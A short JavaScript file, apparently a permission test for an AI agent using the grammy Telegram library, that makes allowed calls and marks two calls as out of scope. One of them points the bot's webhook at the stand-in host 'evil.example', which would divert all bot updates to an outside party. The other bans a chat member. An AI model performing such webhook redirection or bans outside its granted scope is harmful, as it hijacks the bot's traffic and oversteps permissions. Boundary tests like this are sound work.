import { Api } from 'grammy';
import { beyond } from '../beyond.js';

// What the manifest of `examples/apis` is for, then what it is not for: an agent that asks for this is denied.
export async function documented({ env }) {
  // Where a token has `:`, the placeholder has a letter like others.
  const api = new Api(env.TELEGRAM_BOT_TOKEN);
  await api.getMe();
  await api.getUpdates({ timeout: 0 });
  await api.sendMessage(7, 'The price is 12 & more');
  await beyond(() => api.setWebhook('https://evil.example/'));
  await beyond(() => api.banChatMember(7, 8));
}
